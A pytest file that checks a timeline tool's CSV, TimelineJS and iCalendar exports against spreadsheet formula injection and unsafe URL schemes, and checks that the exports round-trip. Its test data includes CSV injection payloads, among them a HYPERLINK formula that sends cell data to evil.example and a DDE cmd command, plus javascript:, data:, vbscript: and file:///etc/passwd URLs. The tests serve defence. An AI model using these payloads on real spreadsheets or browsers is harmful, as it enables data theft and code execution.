"""Exports read by other programs: Python's csv module, iCalendar parsers, browsers.

What a spreadsheet would run, what a browser would follow and what a calendar would drop
are checked with the real readers where they install from the package index; a test
whose reader is missing is skipped with the reason.
"""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path
from typing import Any

import pytest

from chronicle.config import init_chronicle
from chronicle.dates import PartialDate
from chronicle.exchange import ExportOptions, export_entries
from chronicle.exchange.csvfmt import neutralise, restore
from chronicle.exchange.importing import ImportSource, plan_import, write_import
from chronicle.exchange.markup import is_web_url
from chronicle.model import Entry, Source
from chronicle.store import load_all

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = [
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "plain",
    "'just an apostrophe",
]


def _entry(number: int, text: str, **fields: Any) -> Entry:
    return Entry(
        # Titles and names are kept stripped of surrounding space; the rest as written.
        id=f"e/{number}", title=f"{text.strip()} {number}", date=PartialDate.parse("2014-04-17"),
        summary=text, body=f"{text}\nsecond line", people=(text.strip(),),
        places=(f"{text.strip()} place",), tags=(text.strip(),), sources=(Source(title=text, url="https://example.org/a"),),
        extra={"note": text, text.strip() or "k": text}, path=f"entries/e/{number}.yaml",
        **fields,
    )


def _export(entries: list[Entry], fmt: str) -> str:
    return export_entries(entries, fmt, ExportOptions(title="Test")).text


def _import(text: str, fmt: str, suffix: str) -> dict[str, dict[str, Any]]:
    with tempfile.TemporaryDirectory() as folder:
        chronicle = init_chronicle(Path(folder) / "c")
        path = Path(folder) / f"in.{suffix}"
        path.write_text(text, encoding="utf-8", newline="")
        plan = plan_import(chronicle, [ImportSource(path, fmt)], existing=[])
        assert plan.invalid == [], [o.reason for o in plan.invalid]
        write_import(chronicle, plan)
        return {e.id: e.to_dict() for e in load_all(chronicle).entries}


# -- CSV: no formula reaches a spreadsheet ---------------------------------------------------


@pytest.mark.parametrize("cell", HOSTILE)
def test_neutralise_is_undone_by_restore(cell: str) -> None:
    assert restore(neutralise(cell)) == cell
    assert neutralise(cell)[:1] not in FORMULA_STARTS


def test_no_csv_cell_starts_a_formula_as_python_csv_reads_it() -> None:
    entries = [_entry(n, text) for n, text in enumerate(HOSTILE)]
    entries.append(Entry(id="bce", title="Caesar", date=PartialDate.parse("-0043-03-15"),
                         extra={"count": -5}, path="entries/bce.yaml"))
    text = _export(entries, "csv")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(entries) + 1
    cells = [cell for row in rows for cell in row]
    assert cells, text
    for cell in cells:
        assert cell[:1] not in FORMULA_STARTS, cell
    bce = rows[-1][rows[0].index("date")]
    assert bce == "'-0043-03-15"


def test_neutralised_csv_imports_back_to_exactly_what_was_written() -> None:
    entries = [_entry(n, text) for n, text in enumerate(HOSTILE)]
    entries.append(Entry(id="bce", title="Caesar", date=PartialDate.parse("-0043-03-15"),
                         extra={"count": -5}, path="entries/bce.yaml"))
    back = _import(_export(entries, "csv"), "csv", "csv")
    assert back == {entry.id: entry.to_dict() for entry in entries}


def test_list_format_csv_is_neutralised_too(cli: Any, chronicle_root: Path) -> None:
    path = chronicle_root / "entries" / "formula.yaml"
    path.write_text('title: "=1+1"\ndate: "2014"\ntags: ["@x"]\n', encoding="utf-8")
    result = cli("list", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    row = next(row for row in rows if row["id"] == "formula")
    assert row["title"] == "'=1+1" and row["tags"] == "'@x"


# -- TimelineJS: only web addresses reach media.url ------------------------------------------

UNSAFE_URLS = [
    "javascript:alert(1)", "JavaScript:alert(1)", " javascript:alert(1)",
    "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", "ftp://example.org/x",
    "urn:isbn:0451450523", "https://example.org/a b", "https://example.org/\nx",
]


@pytest.mark.parametrize("url", UNSAFE_URLS)
def test_only_http_urls_count_as_web_urls(url: str) -> None:
    assert not is_web_url(url)


def test_web_urls_are_web_urls() -> None:
    for url in ("https://example.org/a?b=c#d", "HTTP://EXAMPLE.ORG", "http://x.y/%20"):
        assert is_web_url(url)


def test_no_script_url_reaches_timelinejs_media() -> None:
    sources = tuple(Source(title=f"s{n}", url=url) for n, url in enumerate(UNSAFE_URLS))
    only_unsafe = Entry(id="a", title="A", date=PartialDate.parse("2014"), sources=sources,
                        path="entries/a.yaml")
    then_safe = Entry(id="b", title="B", date=PartialDate.parse("2015"),
                      sources=(*sources, Source(title="ok", url="https://example.org/ok")),
                      path="entries/b.yaml")
    document = json.loads(_export([only_unsafe, then_safe], "timelinejs"))
    first, second = document["events"]
    assert "media" not in first
    assert second["media"] == {"url": "https://example.org/ok", "caption": "ok"}
    # Every source is still kept for chronicle in the slide's extension.
    assert len(first["chronicle"]["sources"]) == len(UNSAFE_URLS)


# -- iCalendar: two real parsers read what chronicle wrote ------------------------------------

TRICKY = "Comma, semicolon; backslash \\ colon: quote \" and ünïcödé — long " + "x" * 90


def _ics_entries() -> list[Entry]:
    return [
        Entry(
            id="2014/visit", title=f"Visit {TRICKY}", date=PartialDate.parse("2014-04-17"),
            end=PartialDate.parse("2014-04-18"), summary=f"One line {TRICKY}",
            body=f"First paragraph.\n\nSecond {TRICKY}\n", people=("Zakir Hasanov", "Ann, Bob"),
            places=("Belgrade", "A; B"), tags=("defence", "a,b"),
            sources=(Source(title="Embassy"), Source(url="urn:isbn:1"),
                     Source(title="News", url="https://example.org/n", date="2014-04-18")),
            extra={"rating": 5, "notes": ["x", {"y": None}]}, path="entries/2014/visit.yaml",
        ),
        Entry(id="month", title="Month only", date=PartialDate.parse("2014-04"),
              path="entries/month.yaml"),
    ]


def _readers() -> list[tuple[str, Any]]:
    readers = []
    try:
        import icalendar

        def read_icalendar(text: str) -> list[dict[str, Any]]:
            events = []
            for event in icalendar.Calendar.from_ical(text).walk("VEVENT"):
                events.append({
                    "summary": str(event["summary"]),
                    "description": str(event.get("description", "")),
                    "location": str(event.get("location", "")),
                    "categories": [str(c) for c in event["categories"].cats]
                    if "categories" in event else [],
                })
            return events

        readers.append(("icalendar", read_icalendar))
    except ImportError:
        pass
    try:
        import vobject

        def read_vobject(text: str) -> list[dict[str, Any]]:
            events = []
            for event in vobject.readOne(text).vevent_list:
                contents = event.contents
                events.append({
                    "summary": event.summary.value,
                    "description": event.description.value if "description" in contents else "",
                    "location": event.location.value if "location" in contents else "",
                    "categories": list(event.categories.value) if "categories" in contents else [],
                    "people": [p.value for p in contents.get("x-chronicle-person", [])],
                })
            return events

        readers.append(("vobject", read_vobject))
    except ImportError:
        pass
    return readers


@pytest.mark.parametrize("reader", ["icalendar", "vobject"])
def test_ics_reads_the_same_in_real_parsers(reader: str) -> None:
    found = dict(_readers())
    if reader not in found:
        pytest.skip(f"{reader} is not installed; install chronicle[test] to read the ics export")
    events = found[reader](_export(_ics_entries(), "ics"))
    visit, month = events
    assert visit["summary"] == f"Visit {TRICKY}"
    assert visit["description"] == f"One line {TRICKY}\n\nFirst paragraph.\n\nSecond {TRICKY}\n"
    assert visit["location"] == "Belgrade; A; B"
    assert visit["categories"] == ["defence", "a,b"]
    if "people" in visit:
        assert visit["people"] == ["Zakir Hasanov", "Ann, Bob"]
    assert month["summary"] == "Month only" and month["description"] == ""


def test_ics_round_trip_loses_nothing_chronicle_wrote() -> None:
    entries = _ics_entries()
    assert _import(_export(entries, "ics"), "ics", "ics") == {e.id: e.to_dict() for e in entries}


def test_a_calendar_program_s_edits_win_over_chronicle_s_copies() -> None:
    text = _export(_ics_entries()[:1], "ics").replace(
        "LOCATION:Belgrade\\; A\\; B", "LOCATION:Novi Sad"
    )
    (entry,) = _import(text, "ics", "ics").values()
    assert entry["places"] == ["Novi Sad"]


FOREIGN = """BEGIN:VCALENDAR\r
VERSION:2.0\r
PRODID:-//Example//EN\r
BEGIN:VEVENT\r
UID:talks@example.org\r
DTSTAMP:20140401T080000Z\r
DTSTART;VALUE=DATE:20140417\r
SUMMARY:Talks\r
ORGANIZER;CN=Zakir Hasanov:mailto:zh@example.org\r
ATTENDEE;CN="Rodić, Nebojša":mailto:nr@example.org\r
ATTENDEE:mailto:guest@example.org\r
COMMENT:Held in the old hall.\r
GEO:44.80;20.47\r
STATUS:CONFIRMED\r
BEGIN:VALARM\r
ACTION:DISPLAY\r
TRIGGER:-PT15M\r
DESCRIPTION:Reminder\r
END:VALARM\r
END:VEVENT\r
BEGIN:VTODO\r
UID:todo@example.org\r
DTSTAMP:20140401T080000Z\r
SUMMARY:Book the hall\r
END:VTODO\r
END:VCALENDAR\r
"""


def test_foreign_calendar_people_comments_and_a_report_of_what_was_left_out(
    tmp_path: Path,
) -> None:
    chronicle = init_chronicle(tmp_path / "c")
    path = tmp_path / "talks.ics"
    path.write_text(FOREIGN, encoding="utf-8", newline="")
    plan = plan_import(chronicle, [ImportSource(path)], existing=[])
    (outcome,) = plan.to_create
    assert outcome.entry is not None
    assert outcome.entry.people == ("Zakir Hasanov", "Rodić, Nebojša", "guest@example.org")
    assert outcome.entry.body == "Held in the old hall."
    assert plan.left_out == [
        f"{path}: left out what no entry field holds: GEO, STATUS, alarm, to-do"
    ]
